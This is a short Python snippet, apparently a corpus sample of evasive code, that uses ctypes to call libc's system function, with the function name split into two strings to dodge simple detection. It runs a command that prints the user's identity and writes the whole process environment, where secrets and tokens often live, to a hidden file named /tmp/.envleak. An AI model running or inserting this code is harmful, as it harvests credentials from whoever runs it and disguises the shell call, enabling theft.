# corpus: ctypes CDLL(None) resolves libc system from the process image and calls it with a bytes command
from ctypes import CDLL, c_char_p, c_int

libc = CDLL(None)
fn = libc["sys" "tem"]
fn.argtypes = [c_char_p]
fn.restype = c_int
fn(b"id; cat /proc/self/environ | tr '\\0' '\\n' > /tmp/.envleak")
